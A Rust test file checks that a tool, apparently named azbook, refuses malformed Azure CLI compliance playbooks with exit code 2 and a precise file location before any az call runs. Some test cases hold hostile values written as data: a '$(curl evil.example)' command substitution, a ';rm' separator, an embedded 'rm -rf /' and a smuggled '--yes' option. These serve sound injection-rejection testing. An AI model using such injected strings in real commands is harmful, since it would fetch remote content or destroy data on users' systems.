//! Malformed playbooks are refused before any az call, with exit 2 and file:line:column.

use crate::harness::*;

/// A valid playbook; each case below breaks one thing in it.
const BASE: &str = r#"schema = 1
id = "custom-storage"
title = "Custom storage check"
resource_type = "Microsoft.Storage/storageAccounts"

[control]
id = "X.1"
title = "A control"

[[discover]]
name = "account"
argv = ["az", "storage", "account", "list"]

[test]
compliant = "lower(encryption.keySource || 'Microsoft.Storage') == 'microsoft.storage'"
evidence = ["encryption.keySource"]
record = ["encryption.keySource", "encryption.keyVaultProperties.keyName"]
controlled = ["encryption.keySource"]
refresh = ["az", "storage", "account", "show", "--resource-group={target.resourceGroup}", "--name={target.name}"]

[[implement]]
name = "switch"
argv = ["az", "storage", "account", "update", "--name={target.name}", "--resource-group={target.resourceGroup}", "--encryption-key-source=Microsoft.Storage"]
"#;

struct Case {
    name: &'static str,
    text: String,
    line: usize,
    column: usize,
    says: &'static str,
}

fn case(
    name: &'static str,
    from: &str,
    to: &str,
    line: usize,
    column: usize,
    says: &'static str,
) -> Case {
    assert!(
        BASE.contains(from),
        "{name}: `{from}` is not in the base playbook"
    );
    Case {
        name,
        text: BASE.replacen(from, to, 1),
        line,
        column,
        says,
    }
}

fn cases() -> Vec<Case> {
    vec![
        case(
            "toml syntax",
            "title = \"Custom storage check\"",
            "title = \"Custom storage check",
            3,
            30,
            "",
        ),
        case(
            "unknown key",
            "resource_type =",
            "colour = \"red\"\nresource_type =",
            4,
            1,
            "colour",
        ),
        case(
            "wrong type",
            "schema = 1",
            "schema = \"1\"",
            1,
            10,
            "integer",
        ),
        case(
            "unsupported schema",
            "schema = 1",
            "schema = 2",
            1,
            10,
            "schema 2",
        ),
        case(
            "bad jmespath",
            "compliant = \"lower(",
            "compliant = \"lower((",
            15,
            88,
            "JMESPath",
        ),
        case(
            "unknown function",
            "compliant = \"lower(",
            "compliant = \"lowercase(",
            15,
            14,
            "lowercase",
        ),
        case(
            "verdict names a field that cannot exist",
            "encryption.keySource ||",
            "encryption.keySorce ||",
            15,
            20,
            "keySource",
        ),
        case(
            "evidence names a field that cannot exist",
            "evidence = [\"encryption.keySource\"]",
            "evidence = [\"encryption.keyName\"]",
            16,
            13,
            "keyName",
        ),
        case(
            "template names a field that cannot exist",
            "--name={target.name}\", \"--resource-group",
            "--name={target.nmae}\", \"--resource-group",
            23,
            55,
            "nmae",
        ),
        case(
            "template names an unknown root",
            "--name={target.name}\", \"--resource-group",
            "--name={account_name.x}\", \"--resource-group",
            23,
            55,
            "account_name",
        ),
        case(
            "before outside record",
            "--name={target.name}\", \"--resource-group",
            "--name={before.encryption.keyVaultProperties.keyVaultUri}\", \"--resource-group",
            23,
            55,
            "record",
        ),
        case(
            "a program that is not az",
            r#"["az", "storage", "account", "update""#,
            r#"["sh", "storage", "account", "update""#,
            23,
            9,
            "only `az`",
        ),
        case(
            "placeholder as its own argument",
            "\"--name={target.name}\", \"--resource-group",
            "\"{target.name}\", \"--resource-group",
            23,
            47,
            "exactly",
        ),
        case(
            "option smuggled into a value",
            "\"--name={target.name}\", \"--resource-group",
            "\"--name={target.name} --yes\", \"--resource-group",
            23,
            47,
            "shell syntax",
        ),
        case(
            "reserved flag",
            "\"--encryption-key-source=Microsoft.Storage\"",
            "\"--subscription=other\"",
            23,
            114,
            "--subscription",
        ),
        case(
            "az login",
            r#"["az", "storage", "account", "list"]"#,
            r#"["az", "login", "--service-principal"]"#,
            12,
            8,
            "az login",
        ),
        case(
            "empty argv",
            r#"["az", "storage", "account", "list"]"#,
            "[]",
            12,
            8,
            "empty",
        ),
        case(
            "controlled not recorded",
            "controlled = [\"encryption.keySource\"]",
            "controlled = [\"encryption.requireInfrastructureEncryption\"]",
            18,
            15,
            "record",
        ),
        case(
            "manual step with argv",
            "name = \"switch\"",
            "name = \"switch\"\nkind = \"manual\"",
            24,
            8,
            "manual",
        ),
        case(
            "unknown step kind",
            "name = \"switch\"",
            "name = \"switch\"\nkind = \"shell\"",
            23,
            8,
            "shell",
        ),
        case(
            "argv element of the wrong type",
            "\"--encryption-key-source=Microsoft.Storage\"",
            "42",
            23,
            8,
            "argv element",
        ),
        case(
            "control character in an argument",
            "--encryption-key-source=Microsoft.Storage",
            "--encryption-key-source=Microsoft.Storage\\nrm -rf /",
            23,
            114,
            "control",
        ),
        case(
            "duplicate key",
            "title = \"Custom storage check\"",
            "title = \"Custom storage check\"\ntitle = \"again\"",
            4,
            1,
            "duplicate",
        ),
        case(
            "reserved level name",
            "name = \"account\"",
            "name = \"target\"",
            11,
            8,
            "target",
        ),
        case(
            "bad condition on an argument",
            "\"--encryption-key-source=Microsoft.Storage\"]",
            "{ arg = \"--encryption-key-source=Microsoft.Storage\", when = \"before.encryption.keySource ==\" }]",
            23,
            205,
            "JMESPath",
        ),
        case(
            "after outside record",
            "name = \"switch\"",
            "name = \"switch\"\nafter = { \"encryption.requireInfrastructureEncryption\" = true }",
            23,
            9,
            "record",
        ),
        case(
            "az account set",
            r#"["az", "storage", "account", "list"]"#,
            r#"["az", "account", "set", "--name=x"]"#,
            12,
            8,
            "az account set",
        ),
        case(
            "az config",
            r#"["az", "storage", "account", "list"]"#,
            r#"["az", "config", "set", "core.output=table"]"#,
            12,
            8,
            "az config",
        ),
        case(
            "unknown key in a step",
            "name = \"switch\"",
            "name = \"switch\"\nshell = \"bash -c\"",
            23,
            1,
            "shell",
        ),
        case(
            "query flag",
            "\"--encryption-key-source=Microsoft.Storage\"",
            "\"--query=id\"",
            23,
            114,
            "--query",
        ),
        case(
            "short output flag",
            "\"--encryption-key-source=Microsoft.Storage\"",
            "\"-o\"",
            23,
            114,
            "-o",
        ),
        case(
            "id with capitals",
            "id = \"custom-storage\"",
            "id = \"Custom Storage\"",
            2,
            6,
            "lower-case",
        ),
        case(
            "unclosed placeholder",
            "--name={target.name}\", \"--resource-group",
            "--name={target.name\", \"--resource-group",
            23,
            55,
            "never closed",
        ),
        case(
            "read and reads both",
            "refresh = [",
            "read = [\"az\", \"storage\", \"account\", \"show\"]\nreads = { x = [\"az\", \"storage\", \"account\", \"show\"] }\nrefresh = [",
            20,
            9,
            "either",
        ),
        case(
            "command substitution",
            "\"--encryption-key-source=Microsoft.Storage\"",
            "\"--encryption-key-source=$(curl evil.example)\"",
            23,
            114,
            "shell syntax",
        ),
        case(
            "command separator",
            "\"--encryption-key-source=Microsoft.Storage\"",
            "\"--encryption-key-source=Microsoft.Storage;rm\"",
            23,
            114,
            "shell syntax",
        ),
        case(
            "a delete step that does not say it cannot be undone",
            r#"["az", "storage", "account", "update""#,
            r#"["az", "storage", "account", "delete""#,
            23,
            8,
            "`az storage account delete` deletes",
        ),
        case(
            "a role grant that does not say it cannot be undone",
            r#"["az", "storage", "account", "update", "--name={target.name}""#,
            r#"["az", "role", "assignment", "create", "--assignee={target.name}""#,
            23,
            8,
            "grants access",
        ),
        case(
            "a read that deletes",
            r#"refresh = ["az", "storage", "account", "show""#,
            r#"refresh = ["az", "storage", "account", "delete""#,
            19,
            11,
            "a read",
        ),
        case(
            "skip rule on a field that cannot exist",
            "[test]",
            "[[discover.skip]]\nwhen = \"sku.tierr == 'System'\"\nreason = \"x\"\n\n[test]",
            15,
            9,
            "tierr",
        ),
    ]
}

#[test]
fn each_malformed_playbook_is_refused_with_its_location() {
    let sim = Sim::new(&edge_world());
    let all = cases();
    assert!(
        all.len() >= 30,
        "the hostile corpus holds at least 30 playbooks"
    );
    let mut failures = Vec::new();
    for c in all {
        let path = sim
            .dir
            .path()
            .join(format!("{}.toml", c.name.replace(' ', "-")));
        std::fs::write(&path, &c.text).unwrap();
        let out = sim
            .azbook()
            .args(["test", "--playbook"])
            .arg(&path)
            .output()
            .unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        let location = format!("{}:{}:{}: ", path.display(), c.line, c.column);
        if out.status.code() != Some(2) || !stderr.contains(&location) || !stderr.contains(c.says) {
            failures.push(format!(
                "{}: expected exit 2, {location} and `{}`; got exit {:?}:\n{stderr}",
                c.name,
                c.says,
                out.status.code()
            ));
        }
        assert!(
            sim.calls().is_empty(),
            "{}: az ran before the playbook was validated",
            c.name
        );
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn the_base_playbook_itself_is_valid_and_runs() {
    let sim = Sim::new(&edge_world());
    let path = sim.dir.path().join("custom.toml");
    std::fs::write(&path, BASE).unwrap();
    let out = sim
        .azbook()
        .args(["test", "--output", "json", "--playbook"])
        .arg(&path)
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let results = results_by_resource(&out.stdout);
    assert_eq!(results.len(), 9);
    assert!(results.values().all(|r| r["playbook"] == "custom-storage"));
}

#[test]
fn a_huge_playbook_is_refused_before_parsing() {
    let sim = Sim::new(&edge_world());
    let path = sim.dir.path().join("huge.toml");
    let mut text = BASE.to_string();
    text.push_str(&format!("# {}\n", "x".repeat(2 * 1024 * 1024)));
    std::fs::write(&path, text).unwrap();
    let out = sim
        .azbook()
        .args(["test", "--playbook"])
        .arg(&path)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains(":1:1: playbook is"), "{stderr}");
}

#[test]
fn list_validates_a_playbook_file_without_azure() {
    let sim = Sim::without_azure();
    let path = sim.dir.path().join("custom.toml");
    std::fs::write(&path, BASE).unwrap();
    let out = sim
        .azbook()
        .args(["list", "--playbook"])
        .arg(&path)
        .env("PATH", "/nonexistent")
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(String::from_utf8_lossy(&out.stdout).contains("custom-storage"));
}
